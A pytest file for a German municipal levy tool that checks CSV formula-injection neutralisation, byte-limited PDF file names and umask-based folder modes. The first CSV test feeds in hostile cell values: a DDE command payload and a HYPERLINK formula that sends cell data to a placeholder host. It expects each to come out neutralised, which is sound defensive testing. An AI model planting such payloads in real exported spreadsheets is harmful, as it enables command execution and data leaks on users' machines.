"""Notices and Benehmen letters against hostile names, templates and umasks (issue: custom templates, CSV
injection, long names, folder modes).

The expected values are written out by hand next to each test: the neutralised CSV cells, the byte lengths of
the cut file names, the modes 0o755/0o750 of a folder made under umask 022/027.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import stat
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from allocation.cli import main

from allocation.core.instalments import Schedule
from allocation.ops.notices import Levy, LevyShare, ResultBook, _write_csv, build_notices, pdf_name, read_result
from allocation.rulefiles.rulebook import NoticeSettings, load_notice_settings

ROOT = Path(__file__).resolve().parent.parent
FIXTURE = ROOT / "fixtures" / "kreis-wesel-2022" / "kreis-wesel-2022.xlsx"
RULES = ROOT / "rules" / "kreis-wesel.yaml"
DATE = "2022-03-15"


def result_workbook(path: Path, municipalities: list[tuple[str, str, float]]) -> Path:
    """A result workbook of one statutory levy (sheet `Umlagen`), one row per (AGS, name, amount)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Uebersicht"
    sheet.append(["AGS", "Gemeinde", "Umlagegrundlagen", "Kreisumlage", "Summe"])
    levies = workbook.create_sheet("Umlagen")
    levies.append(["Umlage", "AGS", "Gemeinde", "Umlagegrundlagen", "Bemessungsgrundlage", "Satz (%)", "Betrag",
                   "Nachweis", "Berechnung"])
    for ags, name, amount in municipalities:
        sheet.append([ags, name, amount * 2, amount, amount])
        levies.append(["Kreisumlage", ags, name, amount * 2, amount * 2, 50, amount, "Grundlage × 50 %",
                       "Hebesatz der Haushaltssatzung"])
    protocol = workbook.create_sheet("Protokoll")
    for row in (("Angabe", "Wert"), ("Kreis", "Landkreis Muster"), ("Haushaltsjahr", 2013), ("Laufart", "Echtlauf")):
        protocol.append(row)
    workbook.save(path)
    return path


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


# ------------------------------------------------------------------------------------- CSV formula injection


def result_book(municipalities: list[tuple[str, str, int]]) -> ResultBook:
    """A result of one statutory levy, built directly (a workbook cell could not hold a lone carriage return)."""
    shares = tuple(LevyShare("Kreisumlage", ags, name, cents) for ags, name, cents in municipalities)
    return ResultBook(Path("r.xlsx"), "Landkreis Muster", 2013, "Echtlauf", False, (),
                      tuple((ags, name) for ags, name, _ in municipalities),
                      (Levy("Kreisumlage", "kreisumlage", sum(s.amount for s in shares), statute=True),), shares)


def test_csv_neutralises_a_hostile_gemeinde_name_and_kassenzeichen(tmp_path):
    hostile_names = ['=HYPERLINK("http://x.example/?"&A1;"Klick")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                     "\tTab", "\rCR", "Musterstadt"]
    result = result_book([(f"1307600{n}", name, 120_000) for n, name in enumerate(hostile_names, start=1)])
    hostile = NoticeSettings(Schedule.quarterly(), kassenzeichen="=1+{nr}-{ags}")
    notices = build_notices(result, hostile, dt.date(2013, 2, 1))
    _write_csv([row for _, _, rows in notices for row in rows], tmp_path / "Abschlaege.csv")
    rows = csv_rows(tmp_path / "Abschlaege.csv")
    names = [row[1] for row in rows[1::4]]  # four instalments per municipality
    assert names == ['\'=HYPERLINK("http://x.example/?"&A1;"Klick")', "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
                     "'\tTab", "'\rCR", "Musterstadt"]
    # 1.200,00 € quarterly: 300,00 € each; the Kassenzeichen "=1+1-13076001" gets the apostrophe
    assert rows[1] == ["13076001", names[0], "Kreisumlage", "1", "15.02.2013", "300,00", "'=1+1-13076001",
                       "Erstbescheid", "", "", ""]
    assert all(row[6].startswith("'=1+") for row in rows[1:])


def test_csv_neutralises_a_hostile_levy_name(tmp_path):
    result = result_book([("13076001", "Musterstadt", 120_000)])
    result = ResultBook(result.path, result.district, result.year, result.run_mode, False, (), result.municipalities,
                        (Levy("@Umlage", "umlage", 120_000),), (LevyShare("@Umlage", "13076001", "Musterstadt", 120_000),))
    notices = build_notices(result, NoticeSettings(Schedule.quarterly()), dt.date(2013, 2, 1))
    _write_csv(notices[0][2], tmp_path / "Abschlaege.csv")
    assert [row[2] for row in csv_rows(tmp_path / "Abschlaege.csv")[1:]] == ["'@Umlage"] * 4


def test_csv_keeps_the_sign_of_negative_amounts(tmp_path):
    """A change notice lowering the levy: `Aenderung` is negative and stays a number (-300,00), not text."""
    old = read_result(result_workbook(tmp_path / "alt.xlsx", [("13076001", "Musterstadt", 1200.00)]))
    new = read_result(result_workbook(tmp_path / "neu.xlsx", [("13076001", "Musterstadt", 0.00)]))
    settings = NoticeSettings(Schedule.quarterly(), change_policy="spread")
    notices = build_notices(new, settings, dt.date(2013, 1, 10), previous=old)
    _write_csv([row for _, _, rows in notices for row in rows], tmp_path / "Abschlaege.csv")
    rows = csv_rows(tmp_path / "Abschlaege.csv")
    # 10.01.: nothing due yet, the four instalments of 300,00 € drop to 0,00 € each
    assert [row[5] for row in rows[1:]] == ["0,00"] * 4
    assert [row[8:] for row in rows[1:]] == [["300,00", "-300,00", "offen"]] * 4


def test_a_kassenzeichen_pattern_beginning_with_equals_passes_the_rule_file_check(tmp_path):
    """The pattern is the rule file's: nothing there stops `=`, so the CSV has to."""
    path = tmp_path / "r.yaml"
    path.write_text(RULES.read_text(encoding="utf-8").replace('kassenzeichen: "KU-{jahr}-{ags}-{umlage}"',
                                                              'kassenzeichen: "=KU-{jahr}-{ags}-{umlage}"'),
                    encoding="utf-8")
    assert load_notice_settings(path).kassenzeichen == "=KU-{jahr}-{ags}-{umlage}"


# ------------------------------------------------------------------------------------ long names, cut by bytes

LONG_300 = "Ä" * 150  # 300 bytes in UTF-8; its ASCII slug "AeAe…" is 300 characters
LONG_240 = "Ü" * 120  # 240 bytes; slug "UeUe…", 240 characters


@pytest.fixture(scope="module")
def long_names(tmp_path_factory):
    """The Wesel fixture with Alpen renamed to a 300-byte and Dinslaken to a 240-byte name: run, notices, Benehmen."""
    folder = tmp_path_factory.mktemp("lang")
    workbook = load_workbook(FIXTURE)
    for row in workbook["Gemeinden"].iter_rows(min_row=2):
        row[1].value = {"05170004": LONG_300, "05170008": LONG_240}.get(row[0].value, row[1].value)
    workbook.save(folder / "lang.xlsx")
    rules = folder / "kreis-wesel.yaml"
    shutil.copyfile(RULES, rules)
    assert main(["run", str(folder / "lang.xlsx"), "--rules", str(rules), "-o", str(folder / "ergebnis.xlsx")]) == 0
    assert main(["notices", str(folder / "ergebnis.xlsx"), "-o", str(folder / "bescheide"), "--date", DATE]) == 0
    assert main(["benehmen", str(folder / "lang.xlsx"), "--rules", str(rules), "--previous",
                 str(folder / "ergebnis.xlsx"), "-o", str(folder / "benehmen"), "--date", "2022-01-17"]) == 0
    return folder


def test_pdf_names_fit_255_bytes_with_the_ags_and_the_ending_kept():
    # "05170004_" (9 bytes) + name + ".pdf" (4): 242 bytes left for the name → 121 × "Ae"
    assert pdf_name("05170004", LONG_300) == "05170004_" + "Ae" * 121 + ".pdf"
    # the 240-byte name fits whole: 9 + 240 + 4 = 253 bytes
    assert pdf_name("05170004", LONG_240) == "05170004_" + "Ue" * 120 + ".pdf"
    # "_Aenderung.pdf" (14 bytes): 232 left → 116 × "Ue" (the old name was 263 bytes)
    assert pdf_name("05170004", LONG_240, change=True) == "05170004_" + "Ue" * 116 + "_Aenderung.pdf"
    # "_Benehmen.pdf" (13 bytes): 233 left → 116 × "Ue" and one "U"
    assert pdf_name("05170004", LONG_240, kind="_Benehmen") == "05170004_" + "Ue" * 116 + "U_Benehmen.pdf"
    for name in (LONG_300, LONG_240):
        for change in (False, True):
            assert len(pdf_name("05170004", name, change).encode()) <= 255
    # a cut never ends in the word separator, and short names are as before
    assert pdf_name("05170004", "A" * 241 + " Süd") == "05170004_" + "A" * 241 + ".pdf"
    assert pdf_name("05170004", "Voerde (Niederrhein)", kind="_Benehmen") == "05170004_Voerde-Niederrhein_Benehmen.pdf"


def test_cut_names_stay_unique_by_their_ags():
    """Two municipalities whose names differ only after the cut: the AGS in front keeps the files apart."""
    first, second = pdf_name("05170004", LONG_300 + " Nord"), pdf_name("05170008", LONG_300 + " Süd")
    assert first != second and first[9:] == second[9:]


def test_notices_for_300_and_240_byte_names(long_names):
    names = sorted(p.name for p in (long_names / "bescheide").glob("*.pdf"))
    assert len(names) == 13
    assert "05170004_" + "Ae" * 121 + ".pdf" in names and "05170008_" + "Ue" * 120 + ".pdf" in names
    rows = csv_rows(long_names / "bescheide" / "Abschlaege.csv")
    assert {row[1] for row in rows[1:] if row[0] in ("05170004", "05170008")} == {LONG_300, LONG_240}


def test_benehmen_letters_for_300_and_240_byte_names(long_names):
    names = sorted(p.name for p in (long_names / "benehmen").glob("*.pdf"))
    assert len(names) == 13
    # "_Benehmen.pdf": 233 bytes for the name → 116 × "Ae" and one "A"; 116 × "Ue" and one "U"
    assert "05170004_" + "Ae" * 116 + "A_Benehmen.pdf" in names
    assert "05170008_" + "Ue" * 116 + "U_Benehmen.pdf" in names


# ------------------------------------------------------------------------------------------- folder modes


@pytest.fixture(scope="module")
def wesel(tmp_path_factory):
    """One Probelauf of the Wesel fixture (for notices with other umasks and templates)."""
    folder = tmp_path_factory.mktemp("wesel")
    rules = folder / "kreis-wesel.yaml"
    shutil.copyfile(RULES, rules)
    assert main(["run", str(FIXTURE), "--rules", str(rules), "-o", str(folder / "ergebnis.xlsx")]) == 0
    return folder


@pytest.fixture
def umask():
    """Set the process's umask for one test; the old one comes back afterwards."""
    old = os.umask(0o022)
    yield os.umask
    os.umask(old)


def modes(folder: Path) -> tuple[int, set[int]]:
    return stat.S_IMODE(folder.stat().st_mode), {stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}


@pytest.mark.parametrize(("mask", "folder_mode", "file_mode"), [(0o022, 0o755, 0o644), (0o027, 0o750, 0o640)])
def test_notices_folder_and_files_follow_the_umask(wesel, tmp_path, umask, mask, folder_mode, file_mode):
    umask(mask)
    assert main(["notices", str(wesel / "ergebnis.xlsx"), "-o", str(tmp_path / "neu" / "bescheide"),
                 "--date", DATE]) == 0
    assert modes(tmp_path / "neu" / "bescheide") == (folder_mode, {file_mode})
    assert stat.S_IMODE((tmp_path / "neu").stat().st_mode) == folder_mode


@pytest.mark.parametrize(("mask", "folder_mode", "file_mode"), [(0o022, 0o755, 0o644), (0o027, 0o750, 0o640)])
def test_benehmen_folder_and_files_follow_the_umask(wesel, tmp_path, umask, mask, folder_mode, file_mode):
    umask(mask)
    assert main(["benehmen", str(FIXTURE), "--rules", str(wesel / "kreis-wesel.yaml"), "--previous",
                 str(wesel / "ergebnis.xlsx"), "-o", str(tmp_path / "neu" / "benehmen"), "--date", "2022-01-17"]) == 0
    assert modes(tmp_path / "neu" / "benehmen") == (folder_mode, {file_mode})
